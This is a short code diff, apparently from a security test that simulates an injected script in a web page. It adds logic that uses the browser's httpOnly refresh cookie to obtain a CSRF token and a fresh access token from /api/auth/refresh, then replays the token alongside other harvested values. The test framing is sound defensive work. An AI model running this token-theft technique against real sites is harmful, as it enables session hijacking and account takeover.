@@ -16,6 +16,15 @@ window.injectedAttack = async function injectedAttack(replayPath) {
   }
   // Short values (a language choice, a flag) cannot be credentials.
   const found = candidates.filter((candidate) => candidate.value.length >= 20);
+  // Nothing readable is not the end: an httpOnly refresh cookie cannot be read, but the browser attaches it to
+  // the refresh route for any script of the page, which can ask for the CSRF token and then for a new access
+  // token, exactly as the page itself does after a reload.
+  const csrf = await fetch('/api/auth/refresh', { credentials: 'same-origin' });
+  if (csrf.ok) {
+    const { csrfToken } = await csrf.json();
+    const renewed = await fetch('/api/auth/refresh', { method: 'POST', headers: { 'x-csrf-token': csrfToken }, credentials: 'same-origin' });
+    if (renewed.ok) found.push({ where: 'POST /api/auth/refresh', name: 'token', value: (await renewed.json()).token });
+  }
   for (const candidate of found) {
     await fetch(replayPath, { headers: { authorization: `Bearer ${candidate.value}` }, credentials: 'omit' });
   }
